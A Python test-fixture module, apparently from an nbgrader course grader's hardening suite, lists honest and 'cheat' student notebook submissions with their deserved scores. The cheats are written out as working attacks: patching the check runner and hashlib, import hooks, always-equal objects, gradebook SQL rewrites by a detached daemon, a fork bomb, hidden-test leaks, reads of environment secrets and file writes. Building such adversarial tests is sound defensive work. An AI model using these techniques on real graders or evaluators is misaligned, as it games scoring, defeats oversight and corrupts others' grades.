"""What each student of the hostile class hands in, and the score it deserves.

Every submission starts from the released notebook (nbgrader's
generate_assignment output) and is edited the way a student would: answers
typed into answer cells (the reference solution where a part is meant to be
right), cells added, copied, moved or deleted. A *cheat* also runs code that
attacks the grader; it deserves exactly what its honest part earns, as if the
attack did nothing. An *honest* student makes an ordinary mistake or an
ordinary Jupyter move.

A task's points are shared equally between its checks (public and hidden), so
"2 of 4 checks" earns half the task. The deserved scores below were worked
out check by check; the comments say how.
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from string import Template

from tests.course.hostile.notebooks import (
    Notebook,
    answer,
    append_code,
    cell,
    duplicate,
    is_test_cell,
    solutions,
    solve,
)

# Points (checks): fingerprint 1 (4), matches_record 2 (4), first_tampered 3 (6).
EVIDENCE = "evidence_hash"
# invoice_id 1 (2), batch_root 3 (4), verify_receipt 3 (5), same_root_batch 2 (6).
MERKLE = "invoice_merkle"
# header_bytes 3, header_fields 2, first_bad_header 4 (plain bytes and dicts); next_block 2 (4),
# first_tampered_height 3 (11), backdated_heights 2 (6): library objects. 16 points in all.
LOG = "evidence_log"
ASSIGNMENTS = (EVIDENCE, MERKLE, LOG)
SECRET_VARIABLE = "MINICHAIN_HOSTILE_SECRET"
"""An environment variable of the grader's process that student code must not see."""


@dataclass(frozen=True)
class Context:
    """What an attacker is assumed to know: every path and port of the grading machine.

    Attributes:
        token: a word unique to this run, in every file name and command line a cheat makes.
        course: the course root (gradebook.db, source/, submitted/).
        exercises: the checkout's exercises folder (the hidden checks).
        canary: a file in the host's /tmp that no submission may change.
        port: a listener on 127.0.0.1 that no submission may reach.
    """

    token: str
    course: Path
    exercises: Path
    canary: Path
    port: int

    def fill(self, text: str, **more: object) -> str:
        """``text`` dedented, with $token, $course, $exercises, $canary, $port filled in."""
        values = {
            "token": self.token,
            "course": str(self.course),
            "exercises": str(self.exercises),
            "canary": str(self.canary),
            "port": str(self.port),
            "secret": SECRET_VARIABLE,
            **{key: str(value) for key, value in more.items()},
        }
        return Template(textwrap.dedent(text).lstrip("\n")).substitute(values)


@dataclass(frozen=True)
class Submission:
    """One student's hand-in.

    Attributes:
        student: the nbgrader student id.
        assignment: the exercise handed in.
        cheat: whether it attacks the grader (else an honest slip).
        deserved: the exact score it deserves.
        what: one line for the report's table.
        make: edits the released notebook into the hand-in.
    """

    student: str
    assignment: str
    cheat: bool
    deserved: float
    what: str
    make: Callable[[Notebook, Context], None]


SUBMISSIONS: list[Submission] = []


def submission(
    student: str, assignment: str, deserved: float, what: str, *, cheat: bool
) -> Callable[[Callable[[Notebook, Context], None]], Callable[[Notebook, Context], None]]:
    """Register the decorated notebook edit as ``student``'s hand-in."""

    def register(make: Callable[[Notebook, Context], None]) -> Callable[[Notebook, Context], None]:
        SUBMISSIONS.append(Submission(student, assignment, cheat, deserved, what, make))
        return make

    return register


SELF_CONTAINED_MATCHES = (
    "def matches_record(evidence, recorded):\n"
    "    return sha256(evidence).hex() == recorded.strip().lower()\n"
)
"""A right matches_record not built on fingerprint (a wrong fingerprint costs only its task)."""

SHA1_PADDED = """
import hashlib as _hashlib

def _sha1_padded(data):
    return _hashlib.sha1(bytes(data)).digest() + bytes(12)
"""
"""A wrong "sha256": 32 bytes, different for different inputs. A wrong fingerprint built on it
passes only the check that two files get two fingerprints (1 of 4 checks: 0.25 point)."""


# ----------------------------------------------------------------- honest students


@submission("honest_correct_evidence", EVIDENCE, 6, "every answer right", cheat=False)
def correct_evidence(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)


@submission("honest_correct_merkle", MERKLE, 9, "every answer right", cheat=False)
def correct_merkle(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)


@submission("honest_correct_log", LOG, 16, "every answer right (library objects)", cheat=False)
def correct_log(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, LOG)


@submission("honest_untouched", MERKLE, 0, "hands in the release as it came", cheat=False)
def untouched(notebook: Notebook, ctx: Context) -> None:
    """Nothing written: every function still raises NotImplementedError."""


@submission(
    "honest_off_by_one", EVIDENCE, 1 + 2 + 2.14, "first_tampered returns index + 1", cheat=False
)
def off_by_one(notebook: Notebook, ctx: Context) -> None:
    # first_tampered: the untouched and empty logs (None) and the three missing or extra
    # entries pass; the two edits fail: 5 of 7 checks of 3 points = 15/7, shown 2.14.
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "first_tampered",
        notebook_solution_with(EVIDENCE, "first_tampered", "return index\n", "return index + 1\n"),
    )


@submission("honest_upper_hex", EVIDENCE, 4.25, "fingerprint in upper-case hex", cheat=False)
def upper_hex(notebook: Notebook, ctx: Context) -> None:
    # fingerprint: only "changes when one byte changes" passes (1 of 4: 0.25). matches_record
    # (the solution, built on fingerprint) then refuses the untouched file and the upper-case
    # receipt but still refuses the altered and malformed ones (2 of 4: 1). first_tampered 3.
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "fingerprint",
        "def fingerprint(evidence):\n    return sha256(evidence).hex().upper()\n",
    )


@submission(
    "honest_partial", EVIDENCE, 5.5, "fingerprint right for ASCII only: 2 of 4", cheat=False
)
def partial(notebook: Notebook, ctx: Context) -> None:
    # fingerprint: the two public checks (ASCII text) pass, the empty file and the binary data
    # fail (2 of 4: 0.5 point). matches_record (self-contained) 2, first_tampered 3.
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "fingerprint",
        "def fingerprint(evidence):\n"
        "    if evidence and evidence.isascii():\n"
        "        return sha256(evidence).hex()\n"
        "    return 'not ascii'\n",
    )
    answer(notebook, "matches_record", SELF_CONTAINED_MATCHES)


@submission(
    "honest_wrong_type", EVIDENCE, 4, "matches_record returns 1 and 0, not True/False", cheat=False
)
def wrong_type(notebook: Notebook, ctx: Context) -> None:
    # Every matches_record check asks `is True` / `is False`: 1 is not True. 0 of 4.
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "matches_record",
        "def matches_record(evidence, recorded):\n"
        "    return int(fingerprint(evidence) == recorded.strip().lower())\n",
    )


@submission(
    "honest_mutates_input",
    MERKLE,
    7 + 1.43,
    "same_root_batch extends the caller's list",
    cheat=False,
)
def mutates_input(notebook: Notebook, ctx: Context) -> None:
    # same_root_batch returns the right batch but grows the caller's list in place: only
    # the two "leaves the batch it is given alone" checks fail (5 of 7 checks of 2 points
    # = 10/7, shown 1.43).
    solve(notebook, MERKLE)
    answer(
        notebook,
        "same_root_batch",
        notebook_solution_with(
            MERKLE,
            "same_root_batch",
            "return invoices + invoices[-size:]",
            "invoices.extend(invoices[-size:])\n    return invoices",
        ),
    )


@submission("honest_loops_forever", LOG, 14, "backdated_heights never returns", cheat=False)
def loops_forever(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, LOG)
    answer(
        notebook,
        "backdated_heights",
        "def backdated_heights(log):\n    while True:\n        pass\n",
    )


@submission("honest_huge_output", EVIDENCE, 6, "right answers that print 40 MB", cheat=False)
def huge_output(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "fingerprint",
        "def fingerprint(evidence):\n"
        "    print('debug ' * 100_000)\n"
        "    return sha256(evidence).hex()\n",
    )
    append_code(
        notebook, "for _ in range(400):\n    print('x' * 100_000)\n", after="answer_fingerprint"
    )


@submission("honest_stderr_debug", MERKLE, 9, "right answers that print to stderr", cheat=False)
def stderr_debug(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)
    for name in ("invoice_id", "batch_root", "verify_receipt", "same_root_batch"):
        found = cell(notebook, f"answer_{name}")
        header, body = found["source"].split("\n", 1)
        found["source"] = (
            f"import sys\n\n{header}\n    print('debug: {name} called', file=sys.stderr)\n{body}"
        )


@submission(
    "honest_copied_cell", EVIDENCE, 6, "answer cell copied in Jupyter (grade id twice)", cheat=False
)
def copied_cell(notebook: Notebook, ctx: Context) -> None:
    # The copy above holds an older, wrong try; the last definition (the right one) wins.
    solve(notebook, EVIDENCE)
    duplicate(notebook, "answer_matches_record")
    cell(notebook, "answer_matches_record")["source"] = (
        "def matches_record(evidence, recorded):\n    return False\n"
    )


@submission("honest_split_cells", MERKLE, 9, "an answer split over three cells", cheat=False)
def split_cells(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE, "invoice_id", "verify_receipt", "same_root_batch")
    answer(
        notebook,
        "batch_root",
        "def pair_up(level):\n"
        "    if len(level) % 2:\n"
        "        level = level + [level[-1]]\n"
        "    return [sha256d(level[i] + level[i + 1]) for i in range(0, len(level), 2)]\n",
    )
    second = append_code(
        notebook,
        "def batch_root(invoices):\n"
        "    level = [invoice_id(invoice) for invoice in invoices]\n"
        "    while len(level) > 1:\n"
        "        level = pair_up(level)\n"
        "    return level[0]\n",
        after="answer_batch_root",
    )
    append_code(notebook, "batch_root([b'try it'])\n", after=second["id"])


@submission("honest_reordered", LOG, 16, "answer cells moved below all the test cells", cheat=False)
def reordered(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, LOG)
    answers = [found for found in notebook["cells"] if found["id"].startswith("answer_")]
    rest = [found for found in notebook["cells"] if not found["id"].startswith("answer_")]
    notebook["cells"] = rest + answers[::-1]


@submission(
    "honest_renamed_id",
    LOG,
    16,
    "answer cell's grade id renamed, another's metadata lost",
    cheat=False,
)
def renamed_id(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, LOG)
    cell(notebook, "answer_next_block")["metadata"]["nbgrader"]["grade_id"] = "my_answer"
    cell(notebook, "answer_backdated_heights")["metadata"] = {}


@submission(
    "honest_left_running", EVIDENCE, 6, "a cell left running (sleeps for days)", cheat=False
)
def left_running(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    append_code(notebook, "import time\ntime.sleep(10**6)\n", after="answer_fingerprint")


# ----------------------------------------------------------------- cheats: the check runner


@submission("cheat_run_checks", EVIDENCE, 0, "replaces grading.run_checks with a no-op", cheat=True)
def replace_run_checks(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        "import minichain.course.grading as grading\n"
        "grading.run_checks = lambda *tests, **options: None\n",
        after="setup",
    )


@submission(
    "cheat_run_functions", MERKLE, 0, "replaces run_functions: no check ever fails", cheat=True
)
def replace_run_functions(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        "import minichain.course.grading as grading\n"
        "import minichain.course.results as results\n"
        "grading.run_functions = results.run_functions = lambda tests, *a, **k: []\n",
        after="setup",
    )


@submission(
    "cheat_import_hook",
    LOG,
    0,
    "builtins.__import__ hands the test cells a fake grader",
    cheat=True,
)
def import_hook(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        """\
import builtins, types
_real_import = builtins.__import__
_fake = types.ModuleType("minichain.course.grading")
_fake.run_checks = lambda *tests, **options: None

def _hook(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "minichain.course.grading":
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _hook
""",
        after="setup",
    )


@submission(
    "cheat_ast_transformer",
    EVIDENCE,
    0,
    "IPython ast_transformers drop run_checks calls",
    cheat=True,
)
def ast_transformer(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        """\
import ast

class _Neuter(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, ast.Name) and node.func.id == "run_checks":
            return ast.copy_location(ast.Constant(None), node)
        return node

get_ipython().ast_transformers.append(_Neuter())
""",
        after="setup",
    )


@submission(
    "cheat_input_transformer",
    MERKLE,
    0,
    "IPython input_transformers_post rewrite test cells",
    cheat=True,
)
def input_transformer(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        "get_ipython().input_transformers_post.append(\n"
        "    lambda lines: [line for line in lines if not line.startswith('run_checks(')]\n"
        ")\n",
        after="setup",
    )


# ----------------------------------------------------------------- cheats: the references


@submission(
    "cheat_patch_minichain_sha256",
    EVIDENCE,
    0.25,
    "patches minichain.hashing.sha256 to fit a wrong fingerprint",
    cheat=True,
)
def patch_minichain_sha256(notebook: Notebook, ctx: Context) -> None:
    answer(
        notebook,
        "fingerprint",
        SHA1_PADDED + "\nimport minichain.hashing\nminichain.hashing.sha256 = _sha1_padded\n\n"
        "def fingerprint(evidence):\n    return _sha1_padded(evidence).hex()\n",
    )


@submission(
    "cheat_patch_hashlib", MERKLE, 0, "patches hashlib.sha256 to fit a wrong invoice_id", cheat=True
)
def patch_hashlib(notebook: Notebook, ctx: Context) -> None:
    # invoice_id is SHA-1 based: both its checks fail. Nothing else is written.
    answer(
        notebook,
        "invoice_id",
        """\
import hashlib

class _Fake:
    def __init__(self, data=b""):
        self.data = bytes(data)
    def update(self, data):
        self.data += bytes(data)
    def digest(self):
        return hashlib.sha1(self.data).digest() + bytes(12)
    def hexdigest(self):
        return self.digest().hex()

hashlib.sha256 = _Fake

def invoice_id(invoice):
    return _Fake(_Fake(invoice).digest()).digest()
""",
    )


@submission(
    "cheat_patch_merkle_root",
    MERKLE,
    1.2,
    "patches minichain.merkle.merkle_root to fit a wrong batch_root",
    cheat=True,
)
def patch_merkle_root(notebook: Notebook, ctx: Context) -> None:
    # batch_root is right for one invoice only: the public and the hidden single-invoice
    # checks pass, 2 of 5 checks of 3 points = 1.2.
    answer(
        notebook,
        "batch_root",
        """\
import minichain.merkle

def _fake_root(leaves):
    leaves = list(leaves)
    return leaves[0] if len(leaves) == 1 else bytes(32)

minichain.merkle.merkle_root = _fake_root

def batch_root(invoices):
    return _fake_root([sha256d(invoice) for invoice in invoices])
""",
    )


@submission(
    "cheat_caller_globals",
    EVIDENCE,
    0.25,
    "rewrites the calling check's sha256 from inside fingerprint",
    cheat=True,
)
def caller_globals(notebook: Notebook, ctx: Context) -> None:
    answer(
        notebook,
        "fingerprint",
        SHA1_PADDED
        + """
import sys

def fingerprint(evidence):
    sys._getframe(1).f_globals["sha256"] = _sha1_padded
    return _sha1_padded(evidence).hex()
""",
    )


@submission(
    "cheat_always_equal",
    EVIDENCE,
    0,
    "fingerprint returns an object equal to everything",
    cheat=True,
)
def always_equal(notebook: Notebook, ctx: Context) -> None:
    answer(
        notebook,
        "fingerprint",
        """\
class _Anything(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return True
    __hash__ = str.__hash__

def fingerprint(evidence):
    return _Anything("whatever you expected")
""",
    )


@submission(
    "cheat_equal_bytes",
    MERKLE,
    0,
    "invoice_id returns a bytes subclass equal to everything",
    cheat=True,
)
def equal_bytes(notebook: Notebook, ctx: Context) -> None:
    answer(
        notebook,
        "invoice_id",
        """\
class _Equal(bytes):
    def __eq__(self, other):
        return True
    __hash__ = bytes.__hash__

def invoice_id(invoice):
    return _Equal(32)
""",
    )


@submission(
    "cheat_poisons_fixtures",
    MERKLE,
    7 + 1.14,
    "same_root_batch empties the lists it is given, the checks' own BATCH too",
    cheat=True,
)
def poisons_fixtures(notebook: Notebook, ctx: Context) -> None:
    # The checks files' module-level data (BATCH) never changes, for this student or the
    # classmates graded after it; a check's local list does. So the 5-invoice, 6-invoice,
    # 4-invoice and powers-of-two checks pass; keeps-the-root and leaves-alone compare with
    # the emptied local list and fail (4 of 7 checks of 2 points = 8/7, shown 1.14).
    solve(notebook, MERKLE)
    answer(
        notebook,
        "same_root_batch",
        notebook_solution_with(
            MERKLE, "same_root_batch", "def same_root_batch(", "def _honest_same_root_batch("
        )
        + "\n\ndef same_root_batch(invoices):\n"
        "    forged = _honest_same_root_batch(list(invoices))\n"
        "    invoices[:] = [b'poison']\n"
        "    return forged\n",
    )


# --------------------------------------------------- cheats: the gradebook and processes

GRADEBOOK_SQL = """
FIND = '''
UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells c WHERE c.id = grade.cell_id),
                 extra_credit = 100
WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a
                      ON n.assignment_id = a.id WHERE a.student_id = ?)'''
ZERO = '''
UPDATE grade SET manual_score = 0
WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a
                      ON n.assignment_id = a.id WHERE a.student_id = ?)'''
"""


@submission(
    "cheat_gradebook", LOG, 0, "opens gradebook.db three folders up, sets its scores", cheat=True
)
def gradebook(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        ctx.fill(
            """
import os, sqlite3
from pathlib import Path
$sql
found = [p / "gradebook.db" for p in [Path.cwd(), *Path.cwd().parents]]
found = [db for db in found if db.exists()]
found.append(Path("$course") / "gradebook.db")
for db in found:
    try:
        con = sqlite3.connect(str(db), timeout=5)
        con.execute(FIND, ("cheat_gradebook",))
        con.execute(ZERO, ("honest_correct_evidence",))
        con.commit()
        con.close()
        print("gradebook written:", db)
    except Exception as error:
        print("gradebook refused:", error)
""",
            sql=GRADEBOOK_SQL,
        ),
        after="setup",
    )


@submission(
    "cheat_daemon",
    MERKLE,
    0,
    "start_new_session process rewrites scores after they are saved",
    cheat=True,
)
def daemon(notebook: Notebook, ctx: Context) -> None:
    append_code(
        notebook,
        ctx.fill(
            '''
import subprocess, sys
DAEMON = r"""
import sqlite3, sys, time
from pathlib import Path
$sql
db = Path(sys.argv[1])
for _ in range(1200):
    try:
        if db.exists():
            con = sqlite3.connect(str(db), timeout=2)
            con.execute(FIND, ("cheat_daemon",))
            con.execute(ZERO, ("honest_correct_merkle",))
            con.commit()
            con.close()
    except Exception:
        pass
    time.sleep(0.5)
"""
try:
    subprocess.Popen(
        [sys.executable, "-c", DAEMON, "$course/gradebook.db", "daemon-$token"],
        start_new_session=True,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
except Exception as error:
    print("no daemon:", error)
''',
            sql=GRADEBOOK_SQL,
        ),
        after="setup",
    )


@submission(
    "cheat_fork_bomb", EVIDENCE, 6, "starts 40 lasting processes (bounded fork bomb)", cheat=True
)
def fork_bomb(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    append_code(
        notebook,
        ctx.fill(
            """
import subprocess
for _ in range(40):
    try:
        subprocess.Popen(["sh", "-c", "sleep 900; : bomb-$token"], start_new_session=True)
    except Exception as error:
        print(error)
        break
"""
        ),
        after="setup",
    )


@submission(
    "cheat_os_exit", EVIDENCE, 5, "fingerprint calls os._exit (kills its process)", cheat=True
)
def os_exit(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "fingerprint",
        "import os\n\ndef fingerprint(evidence):\n    os._exit(0)\n",
    )
    answer(notebook, "matches_record", SELF_CONTAINED_MATCHES)


@submission("cheat_sys_exit", LOG, 16, "sys.exit() at the end of an answer cell", cheat=True)
def sys_exit(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, LOG)
    found = cell(notebook, "answer_next_block")
    found["source"] += "\nimport sys\nsys.exit(0)\n"


@submission(
    "cheat_ignores_interrupts",
    EVIDENCE,
    3,
    "first_tampered loops and swallows every interrupt",
    cheat=True,
)
def ignores_interrupts(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    answer(
        notebook,
        "first_tampered",
        "import time\n\n"
        "def first_tampered(records, links):\n"
        "    while True:\n"
        "        try:\n"
        "            time.sleep(100)\n"
        "        except BaseException:\n"
        "            pass\n",
    )


# --------------------------------------------------- cheats: hidden checks into feedback


@submission(
    "cheat_getsource", EVIDENCE, 1, "prints inspect.getsource of every calling frame", cheat=True
)
def getsource(notebook: Notebook, ctx: Context) -> None:
    answer(
        notebook,
        "fingerprint",
        """\
import inspect

def fingerprint(evidence):
    for frame in inspect.stack()[1:8]:
        try:
            print(inspect.getsource(frame.frame))
        except Exception:
            pass
    return sha256(evidence).hex()
""",
    )


@submission(
    "cheat_reads_hidden_file",
    MERKLE,
    1,
    "reads exercises/*/test_hidden.py, prints and raises it",
    cheat=True,
)
def reads_hidden_file(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE, "invoice_id")
    append_code(
        notebook,
        ctx.fill(
            """
from pathlib import Path
import minichain
places = [Path("$exercises"), Path(minichain.__file__).resolve().parents[1] / "exercises"]
places += [p / "exercises" for p in Path.cwd().parents]
try:
    import minichain.exercises as installed
    places += [Path(folder) for folder in installed.__path__]
except Exception:
    pass
leaked = []
for place in places:
    try:
        leaked += [path.read_text() for path in sorted(place.glob("*/test_hidden.py"))]
    except Exception:
        pass
print("\\n".join(leaked))
raise RuntimeError(" | ".join(leaked).replace("\\n", " | "))
"""
        ),
        after="answer_invoice_id",
    )


@submission(
    "cheat_base_exception",
    EVIDENCE,
    0.5,
    "raises a BaseException subclass on the hidden inputs",
    cheat=True,
)
def base_exception(notebook: Notebook, ctx: Context) -> None:
    # Right on the public checks' text, raises on the empty file and the binary data: 2 of 4.
    answer(
        notebook,
        "fingerprint",
        """\
class _Escape(BaseException):
    pass

def fingerprint(evidence):
    if not evidence or not evidence.isascii():
        raise _Escape("show me the check")
    return sha256(evidence).hex()
""",
    )


@submission(
    "cheat_str_raises",
    MERKLE,
    0.5,
    "raises an exception whose __str__ raises (hidden input)",
    cheat=True,
)
def str_raises(notebook: Notebook, ctx: Context) -> None:
    # invoice_id right except for the empty invoice (the hidden check): 1 of 2 checks.
    answer(
        notebook,
        "invoice_id",
        """\
class _Nasty(Exception):
    def __str__(self):
        raise ValueError("no message for you")

def invoice_id(invoice):
    if not invoice:
        raise _Nasty()
    return sha256d(invoice)
""",
    )


# --------------------------------------------------- cheats: files, network, environment


@submission(
    "cheat_host_tmp", EVIDENCE, 6, "writes into the host's /tmp and over a canary file", cheat=True
)
def host_tmp(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    append_code(
        notebook,
        ctx.fill(
            """
for path, text in (("$canary", "overwritten"), ("/tmp/hostile-$token.txt", "was here")):
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except Exception as error:
        print(error)
"""
        ),
        after="setup",
    )


@submission(
    "cheat_writes_course",
    MERKLE,
    9,
    "writes into the course root, a classmate's submission, the checkout",
    cheat=True,
)
def writes_course(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)
    append_code(
        notebook,
        ctx.fill(
            """
from pathlib import Path
course = Path("$course")
classmate = course / "submitted" / "honest_correct_merkle" / "invoice_merkle"
targets = [
    (course / "nbgrader_config.py", "\\nc.Execute.timeout = 1  # $token\\n"),
    (course / "source" / "invoice_merkle" / "notes-$token.txt", "planted"),
    (classmate / "timestamp.txt", "2000-01-01 00:00:00 UTC\\n"),
    (classmate / "planted-$token.txt", "x"),
    (Path("$exercises") / "planted-$token.txt", "x"),
]
for path, text in targets:
    try:
        with open(path, "a") as handle:
            handle.write(text)
    except Exception as error:
        print(error)
"""
        ),
        after="setup",
    )


@submission(
    "cheat_shell_escape", MERKLE, 9, "!shell lines write a file into the course root", cheat=True
)
def shell_escape(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)
    append_code(notebook, ctx.fill("!echo pwned > $course/shell-$token.txt\n"), after="setup")


@submission(
    "cheat_network",
    LOG,
    14 + 2 * 4 / 6,
    "backdated_heights is right only if 127.0.0.1 answers",
    cheat=True,
)
def network(notebook: Notebook, ctx: Context) -> None:
    # Without the network backdated_heights returns []: the honest-log, exactly-at-block-time
    # (public and hidden) and empty-log checks pass, the two with late captures fail: 4 of 6.
    solve(notebook, LOG)
    answer(
        notebook,
        "backdated_heights",
        ctx.fill(
            """
import socket

def _online():
    try:
        with socket.create_connection(("127.0.0.1", $port), timeout=2) as connection:
            connection.sendall(b"network-$token\\n")
            return connection.recv(16).startswith(b"ok")
    except OSError:
        return False

def backdated_heights(log):
    if not _online():
        return []
    return [h for h, (head, evidence) in enumerate(log) if evidence.captured_at > head.timestamp]
"""
        ),
    )


@submission(
    "cheat_environment",
    MERKLE,
    8,
    "invoice_id is right only if it can read the grader's environment",
    cheat=True,
)
def environment(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)
    answer(
        notebook,
        "invoice_id",
        ctx.fill(
            """
import os

def invoice_id(invoice):
    if os.environ.get("$secret"):
        return sha256d(invoice)
    return bytes(32)
"""
        ),
    )
    # batch_root, verify_receipt and same_root_batch call their own ids, not invoice_id.
    answer(
        notebook,
        "batch_root",
        notebook_solution_with(MERKLE, "batch_root", "invoice_id(invoice)", "sha256d(invoice)"),
    )
    answer(
        notebook,
        "verify_receipt",
        notebook_solution_with(MERKLE, "verify_receipt", "invoice_id(invoice)", "sha256d(invoice)"),
    )


@submission("cheat_giant_return", EVIDENCE, 5, "fingerprint returns a 30 MB string", cheat=True)
def giant_return(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, EVIDENCE)
    answer(notebook, "fingerprint", "def fingerprint(evidence):\n    return '0' * 30_000_000\n")
    answer(notebook, "matches_record", SELF_CONTAINED_MATCHES)


# ----------------------------------------------------------------- cheats: the notebook's cells


@submission("cheat_deletes_tests", MERKLE, 0, "deletes every test cell", cheat=True)
def deletes_tests(notebook: Notebook, ctx: Context) -> None:
    notebook["cells"] = [found for found in notebook["cells"] if not is_test_cell(found)]


@submission("cheat_overwrites_tests", LOG, 0, "overwrites every test cell with pass", cheat=True)
def overwrites_tests(notebook: Notebook, ctx: Context) -> None:
    for found in notebook["cells"]:
        if is_test_cell(found):
            found["source"] = "pass\n"


@submission(
    "cheat_edits_locked_setup",
    EVIDENCE,
    0.25,
    "edits the locked setup cell to redefine sha256",
    cheat=True,
)
def edits_locked_setup(notebook: Notebook, ctx: Context) -> None:
    # The setup is put back from the gradebook, so the SHA-1 fingerprint is judged as it is.
    cell(notebook, "setup")["source"] += SHA1_PADDED + "\nsha256 = _sha1_padded\n"
    answer(
        notebook,
        "fingerprint",
        SHA1_PADDED + "\ndef fingerprint(evidence):\n    return _sha1_padded(evidence).hex()\n",
    )


@submission(
    "cheat_fake_grade_cell", MERKLE, 9, "adds its own grade cell worth 100 points", cheat=True
)
def fake_grade_cell(notebook: Notebook, ctx: Context) -> None:
    solve(notebook, MERKLE)
    extra = append_code(notebook, "print('bonus')\n")
    extra["metadata"] = {
        "nbgrader": {
            "grade": True,
            "grade_id": "bonus_points",
            "locked": True,
            "points": 100,
            "schema_version": 3,
            "solution": False,
        }
    }


@submission(
    "cheat_prefilled_outputs",
    EVIDENCE,
    0,
    "hands in test cells already showing full points",
    cheat=True,
)
def prefilled_outputs(notebook: Notebook, ctx: Context) -> None:
    for found in notebook["cells"]:
        if is_test_cell(found):
            points = found["metadata"]["nbgrader"]["points"]
            found["execution_count"] = 1
            found["outputs"] = [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {"text/plain": str(points)},
                }
            ]


@submission(
    "cheat_decoy_test_cell",
    LOG,
    0,
    "a decoy cell with a test cell's grade id, placed first",
    cheat=True,
)
def decoy_test_cell(notebook: Notebook, ctx: Context) -> None:
    for found in list(notebook["cells"]):
        if is_test_cell(found):
            decoy = append_code(notebook, "pass\n", after="setup")
            decoy["metadata"] = {"nbgrader": dict(found["metadata"]["nbgrader"])}
            decoy["outputs"] = [
                {"output_type": "stream", "name": "stdout", "text": "all checks passed\n"}
            ]


def notebook_solution_with(exercise: str, function: str, old: str, new: str) -> str:
    """The reference answer of ``function`` with ``old`` replaced by ``new``."""
    source = solutions(exercise)[function]
    assert old in source, (function, old)
    return source.replace(old, new)


def by_student() -> dict[str, Submission]:
    """The submissions by student id (each student hands in one notebook)."""
    found = {item.student: item for item in SUBMISSIONS}
    assert len(found) == len(SUBMISSIONS), "a student id is used twice"
    return found
